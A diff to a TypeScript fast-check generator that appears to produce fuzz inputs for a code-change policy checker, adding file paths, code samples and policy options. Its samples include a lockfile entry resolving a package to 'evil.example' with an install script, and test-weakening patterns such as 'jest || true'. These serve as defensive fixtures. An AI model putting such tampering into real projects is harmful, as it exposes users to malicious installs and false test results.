@@ -8,7 +8,7 @@ import { file } from './change.ts'
 
 const TEST = "test('a', () => {\n  expect(1 + 1).toBe(2)\n})\n"
 
-const PATHS = [
+export const PATHS = [
   'a.js',
   'src/b.ts',
   'test/c.test.js',
@@ -21,6 +21,11 @@ const PATHS = [
   '.github/workflows/ci.yml',
   'AGENTS.md',
   'x/Б.py',
+  'tests/FooTest.php',
+  'FooTests.cs',
+  'vendor/a/b.js',
+  'jest.config.js',
+  'go.mod',
   'lib.rs',
   'img.png',
   'yarn.lock',
@@ -41,6 +46,15 @@ const texts = fc.oneof(
     'def test_a():\n    try:\n        assert f() == 1\n    except Exception:\n        pass\n',
     'func TestA(t *testing.T) {\n\tif f() != 1 {\n\t\tt.Fatal("x")\n\t}\n}\n',
     '#[test]\nfn a() {\n    assert_eq!(1, f());\n}\n',
+    "import { b } from './b.ts'\nexport const a = b\n",
+    "import { a } from '../a.js'\nexport function b(x) {}\n",
+    'export function b(x, y) {}\n',
+    'def g(a):\n    return 1\n',
+    '// SPDX-License-Identifier: MIT\nexport const c = 1\n',
+    'public function testA() {\n  $this->assertSame(1, f());\n}\n',
+    '[Fact]\npublic void A()\n{\n  Assert.Equal(1, F());\n}\n',
+    '{"lockfileVersion":3,"packages":{"node_modules/b":{"version":"1.0.0","resolved":"https://registry.npmjs.org/b.tgz","integrity":"sha512-a"}}}',
+    '{"lockfileVersion":3,"packages":{"node_modules/b":{"version":"2.0.0","resolved":"https://evil.example/b.tgz","integrity":"sha512-b","hasInstallScript":true}}}',
     '{"scripts":{"test":"jest"}}',
     '{"scripts":{"test":"jest || true"}}',
     '{"dependencies":{"a":"1.0.0"}}',
@@ -66,12 +80,22 @@ export const secrets = fc.array(
   { maxLength: 2 },
 )
 
+const STOPS = fc.constantFrom('disclose', 'hold', 'block') as fc.Arbitrary<'hold'>
+/** From mild to strict. */
+export const HOLDS = ['never', 'high', 'medium', 'low'] as const
+
 export const policies: fc.Arbitrary<Policy> = fc
   .record({
     rules: fc.dictionary(fc.constantFrom(...RULE_NAMES), fc.constantFrom(...VERBS)),
     exposure: fc.constantFrom('standard', 'strict') as fc.Arbitrary<'standard'>,
     limits: fc.record({ files: fc.integer({ min: 1, max: 8 }), lines: fc.integer({ min: 1, max: 30 }) }),
     protectedPaths: fc.subarray(['src/', '*.md', '**/c.test.js']),
+    boundaries: fc.subarray([
+      { from: 'src/', disallow: ['a.js'] },
+      { from: '**', disallow: ['b.ts'] },
+    ]),
+    evidence: fc.record({ none: STOPS, noCoverage: STOPS }),
+    review: fc.record({ hold: fc.constantFrom(...HOLDS) }),
   })
   .map((some) => ({ ...DEFAULT_POLICY, ...some }))
 
